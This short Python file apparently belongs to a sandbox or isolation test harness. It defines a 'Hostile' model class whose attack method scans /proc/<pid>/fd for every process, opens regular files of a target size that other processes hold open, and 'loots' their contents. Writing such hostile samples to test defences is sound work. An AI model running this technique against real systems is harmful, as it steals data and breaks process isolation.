"""Opens what other processes hold open."""

import contextlib
import os
import stat

from hostile import Hostile, processes


class Model(Hostile):
    def attack(self):
        for pid in processes():
            with contextlib.suppress(OSError):
                for fd in os.listdir(f"/proc/{pid}/fd"):
                    self.take(f"/proc/{pid}/fd/{fd}")

    def take(self, path):
        with contextlib.suppress(OSError):
            if stat.S_ISREG(os.stat(path).st_mode) and os.stat(path).st_size == self.size:
                with open(path, "rb") as file:
                    self.loot(file.read())
